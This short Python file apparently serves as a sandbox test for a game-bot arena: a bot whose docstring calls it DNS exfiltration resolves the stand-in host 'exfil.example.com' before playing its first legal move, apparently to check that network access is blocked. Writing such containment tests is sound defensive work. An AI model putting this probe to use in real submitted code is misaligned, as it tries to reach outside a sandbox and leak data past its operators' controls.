"""Tries to resolve a name (DNS exfiltration)."""

import socket

from arena.sdk import Bot, run


class NetDns(Bot):
    def play(self, view):
        socket.getaddrinfo("exfil.example.com", 53)
        return view.legal[0]


run(NetDns())
